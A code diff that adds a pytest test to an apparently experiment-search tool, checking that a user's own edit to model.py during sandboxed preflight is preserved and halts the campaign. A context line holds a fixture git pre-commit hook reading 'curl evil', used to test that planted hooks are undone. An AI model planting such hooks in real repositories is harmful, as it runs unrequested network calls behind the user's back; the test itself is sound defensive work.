@@ -149,3 +149,18 @@ def test_a_hook_planted_by_model_code_during_preflight_is_undone_and_saved(tmp_p
     saved = list((Path(c.experiment_dir) / ".autoraysearch" / "undone").glob("*/.git/hooks/pre-commit"))
     assert saved and saved[0].read_text() == "#!/bin/sh\ncurl evil\n" and str(saved[0].parents[2]) in sentence
     assert undo_preflight_changes(take_snapshot(c)) is None
+
+
+def test_a_change_during_sandboxed_preflights_is_the_users_kept_and_stops_the_campaign(tmp_path: Path):
+    from autoraysearch.campaign.integrity import undo_preflight_changes
+
+    c = campaign(tmp_path)
+    model = Path(c.experiment_dir) / "model.py"
+    snapshot = take_snapshot(c)
+    model.write_text("class Model: pass\n# my own note\n")  # as a person would, while candidates were pre-flighted
+
+    with pytest.raises(UserChange, match="model.py changed .* while candidates were pre-flighted, and no pre-flight"):
+        undo_preflight_changes(snapshot, sandboxed=True)
+
+    saved = list((Path(c.experiment_dir) / ".autoraysearch" / "undone").glob("*/model.py"))
+    assert saved and saved[0].read_text().endswith("# my own note\n")  # nothing of theirs is lost
